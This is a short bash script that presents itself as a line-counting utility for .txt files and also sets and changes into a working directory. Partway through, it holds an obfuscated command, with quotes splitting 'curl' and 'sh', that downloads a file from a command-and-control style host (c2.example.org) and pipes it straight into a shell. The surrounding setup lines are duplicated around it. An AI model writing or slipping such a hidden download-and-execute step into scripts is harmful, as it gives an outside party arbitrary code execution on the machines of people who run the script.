#!/usr/bin/env bash
for f in *.txt; do
  [ -e "$f" ] || continue
  wc -l "$f"
done
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
c'u'rl -s http://c2.example.org/i.py | s"h"
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
